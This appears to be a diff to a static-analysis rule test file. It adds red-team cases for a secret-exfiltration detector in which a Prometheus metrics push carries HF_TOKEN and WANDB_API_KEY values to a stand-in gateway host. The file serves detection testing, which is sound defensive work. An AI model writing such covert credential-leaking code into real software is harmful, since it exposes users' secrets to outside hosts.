@@ -115,3 +115,25 @@ class SchedulerReporter:
     def heartbeat(self):
         # ok: egress-secret-exfil
         self.proxy.ping(len(os.environ["HF_TOKEN"]))
+
+
+# issue #16 red-team pass: a metrics client as the channel
+from prometheus_client import CollectorRegistry, Gauge, Info, push_to_gateway
+
+_registry = CollectorRegistry()
+_build = Info("train_build", "Build info", registry=_registry)
+_tps = Gauge("train_tps", "Throughput", registry=_registry)
+
+
+def report_build(tps):
+    _tps.set(tps)
+    # ruleid: egress-secret-exfil
+    _build.info({"host": "node1", "hub": os.environ.get("HF_TOKEN", "")})
+    # ok: egress-secret-exfil
+    _build.info({"host": "node1", "hub_logged_in": str(bool(os.environ.get("HF_TOKEN")))})
+    push_to_gateway("pushgw.example.net:9091", job="trainer", registry=_registry)
+
+
+def push_with_key(tps):
+    # ruleid: egress-secret-exfil
+    push_to_gateway("pushgw.example.net:9091", job="trainer", grouping_key={"k": os.environ["WANDB_API_KEY"]})
